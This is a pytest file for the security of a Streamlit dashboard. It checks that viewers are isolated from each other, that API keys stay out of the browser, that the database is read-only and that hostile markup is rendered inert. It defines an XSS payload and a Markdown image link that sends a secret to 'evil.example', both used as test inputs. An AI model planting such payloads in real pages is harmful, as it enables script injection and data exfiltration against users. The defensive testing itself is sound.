"""S18: the dashboard shows nobody what is not theirs, runs nobody's text, and reads without being able to write.

Visibility and read-only access of the reports themselves are held in `tests/reports`.
"""

from __future__ import annotations

import ast
import sqlite3
import tomllib
from importlib.metadata import version
from pathlib import Path

import pytest
from sqlalchemy import text

import dashboard as package
from dashboard import wiring
from gateway.reports import ReportsUnavailable, Source
from tests.dashboard import world
from tests.dashboard.stub import Body, events
from tests.dashboard.world import ANN, BOB
from tests.reports.books import Books

stub, now, dashboard = world.stub, world.now, world.dashboard  # fixtures

FOLDER = Path(package.__file__).parent
SOURCES = sorted(FOLDER.rglob("*.py"))
PAGES = ("main", "studio", "spend", "health")
IMG = "<img src=x onerror=alert(1)>"
PICTURE = "![x](http://evil.example/?secret)"


def everything(page) -> str:
    """All that the browser is sent for a page, as text."""
    return "\n".join(str(getattr(node, "proto", "")) for tree in page for node in tree)


@pytest.mark.parametrize("name", PAGES)
def test_signed_out_nothing_is_read_and_nothing_is_asked(name, dashboard, stub, monkeypatch):
    def never(*_):
        raise AssertionError("a query was made")

    monkeypatch.setattr(Source, "reading", never)
    for cookie in (None, "", "made-up"):
        dashboard.use(cookie)
        page = dashboard.page(name)
        assert [info.value for info in page.info] == ["You are signed out."]
        assert not [*page.title, *page.selectbox, *page.dataframe, *page.exception]
    assert stub.asked == []


@pytest.mark.parametrize("name", PAGES)
def test_a_revoked_key_sees_nothing_more(name, dashboard, stub, now, tmp_path):
    Books(tmp_path).add("gen-ann", ("openai", "model-of-ann", 1))
    cookie = dashboard.sign_in(ANN)
    del stub.members[ANN]
    now.seconds += 11
    page = dashboard.page(name)
    assert "You are signed out." in page.info[0].value
    assert not [*page.dataframe, *page.selectbox]
    assert dashboard.sessions.get(cookie) is None


def test_two_viewers_never_see_each_others_rows(dashboard, tmp_path):
    books = Books(tmp_path)
    for user in ("ann", "bob"):
        books.add(f"gen-{user}", ("openai", f"model-of-{user}", 1), user=user, template=f"template_of_{user}")
    for key, own, other in ((ANN, "ann", "bob"), (BOB, "bob", "ann"), (ANN, "ann", "bob")):
        dashboard.sign_in(key)
        page = dashboard.page("spend")
        tables = "\n".join(frame.value.to_string() for frame in page.dataframe)
        assert f"model-of-{own}" in tables
        assert f"template of {own}" in tables
        assert other not in tables
        page.session_state["request"] = f"gen-{other}"
        page.run()
        assert f"gen-{other}" not in everything(page)


def test_two_viewers_never_see_each_others_texts(dashboard, stub):
    stub.answer = lambda: Body(events("Secret of Ann"))
    dashboard.sign_in(ANN)
    page = dashboard.write("Write")
    query = {"text": page.session_state["text"]}
    assert "Secret of Ann" in everything(dashboard.page("main", query=query))
    dashboard.sign_in(BOB)
    assert "Secret of Ann" not in everything(dashboard.page("main", query=query))


def test_acts_are_done_with_the_viewers_own_key(dashboard, stub):
    dashboard.sign_in(BOB)
    dashboard.write("Write")
    dashboard.page("health")
    assert {"/v1/me", "/v1/models", "/v1/chat/completions", "/v1/generations/gen-1", "/v1/status"} <= set(stub.paths())
    assert {key for _, _, key in stub.asked} == {BOB}


def test_no_page_sends_the_key_to_the_browser(dashboard, tmp_path):
    Books(tmp_path)
    dashboard.sign_in(ANN)
    for name in PAGES:
        assert ANN not in everything(dashboard.page(name))


def test_markup_in_anything_that_others_wrote_is_inert(dashboard, stub, now, tmp_path, monkeypatch):
    hostile = f"{IMG} {PICTURE}"
    stub.member(ANN, hostile, name=hostile, role="admin")
    stub.answer = lambda: Body(events(hostile))
    stub.record = {"model": hostile, "provider": hostile, "route": hostile}
    stub.status = [{"id": "d", "group": hostile, "provider": hostile, "model": hostile, "state": hostile}]
    variable = {"name": "topic", "title": hostile, "description": hostile, "type": "string", "example": hostile}
    template = {"id": "t", "title": hostile, "description": hostile, "current": "1"}
    monkeypatch.setattr(
        "tests.dashboard.stub.TEMPLATES", [{**template, "versions": [{"version": "1", "variables": [variable]}]}]
    )
    Books(tmp_path).add("gen-1", (hostile, hostile, 1), user=hostile, template=hostile, route=hostile, brand=hostile)
    dashboard.sign_in(ANN)
    page = dashboard.write(hostile)
    assert_inert(page)
    page.selectbox(key="template").select("t").run()
    assert_inert(page)
    stub.refuse("/v1/chat/completions", 500, hostile)
    assert_inert(dashboard.write(hostile))
    stub.refuse("/v1/templates", 500, hostile)
    now.seconds += 60
    assert_inert(dashboard.page("main"))
    assert_inert(dashboard.page("health"))
    spend = dashboard.page("spend")
    spend.session_state["request"] = "gen-1"
    assert_inert(spend.run())
    stub.refuse("/v1/status", 500, hostile)
    assert_inert(dashboard.page("health"))


def assert_inert(page) -> None:
    """Nothing that is read as Markdown has an unescaped tag or picture; nothing is allowed to be HTML."""
    assert not page.exception
    read = [page.markdown, page.caption, page.error, page.warning, page.info]
    for element in (element for kind in read for element in kind):
        assert not getattr(element.proto, "allow_html", False)
        assert "![" not in str(element.value).replace("\\!", "")
        if "onerror" in str(element.value) and element.type != "markdown":
            assert IMG not in element.value
    for table in page.table:
        assert IMG not in table.value.to_string()
        assert "![" not in table.value.to_string().replace("!\\[", "")
    for field in (*page.text_input, *page.text_area, *page.selectbox, *page.button):
        assert IMG not in field.label
        assert "![" not in field.label
        assert IMG not in (getattr(field, "help", "") or "")


def calls(name: str) -> list[tuple[str, ast.Call]]:
    """Every call of a function or method of this name in the dashboard."""
    return [
        (path.name, node)
        for path in SOURCES
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
        if isinstance(node, ast.Call) and name in (getattr(node.func, "attr", ""), getattr(node.func, "id", ""))
    ]


def test_html_is_only_ever_a_constant_of_our_own():
    assert not [path for path in SOURCES if "unsafe_allow_html" in path.read_text(encoding="utf-8")]
    given = [(file, ast.unparse(node.args[0])) for file, node in calls("html")]
    assert given == [("gate.py", "TO_SIGN_IN"), ("shell.py", "STYLE")]
    assert not calls("iframe")
    assert not calls("component")


def test_nothing_is_cached_across_viewers():
    for path in SOURCES:
        names = {node.attr for node in ast.walk(ast.parse(path.read_text("utf-8"))) if isinstance(node, ast.Attribute)}
        assert not names & {"cache_data", "cache_resource", "connection"}


def test_the_dashboard_knows_only_the_reports_of_this_project():
    for path in SOURCES:
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            modules = [alias.name for alias in node.names] if isinstance(node, ast.Import) else []
            if isinstance(node, ast.ImportFrom) and node.module:
                modules = [f"{node.module}.{alias.name}" for alias in node.names]
            for module in modules:
                assert module.split(".")[0] not in {
                    "sqlite3",
                    "sqlmodel",
                    "sqlalchemy",
                    "routing_policies",
                    "templates",
                }
                assert not module.startswith("gateway") or module.startswith("gateway.reports")


def test_a_write_through_the_dashboards_connections_fails(tmp_path, monkeypatch):
    Books(tmp_path).add("gen-1", ("openai", "gpt", 1))
    monkeypatch.setenv("ATELIER_DATA_DIR", str(tmp_path))
    wiring.reports.cache_clear()
    try:
        with pytest.raises(ReportsUnavailable) as refused, wiring.reports().reading() as ledger:
            ledger.execute(text("DELETE FROM request"))
    finally:
        wiring.reports.cache_clear()
    assert isinstance(refused.value.__cause__.orig, sqlite3.OperationalError)
    assert "readonly" in str(refused.value.__cause__.orig)


def test_streamlit_is_new_enough_and_set_up_safely():
    assert tuple(map(int, version("streamlit").split(".")[:2])) >= (1, 54)
    settings = tomllib.loads((FOLDER / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert settings["server"]["enableXsrfProtection"] is True
    assert settings["server"]["enableCORS"] is True
    assert settings["server"]["enableStaticServing"] is False
    assert settings["browser"]["gatherUsageStats"] is False
    assert settings["client"]["showErrorDetails"] == "none"
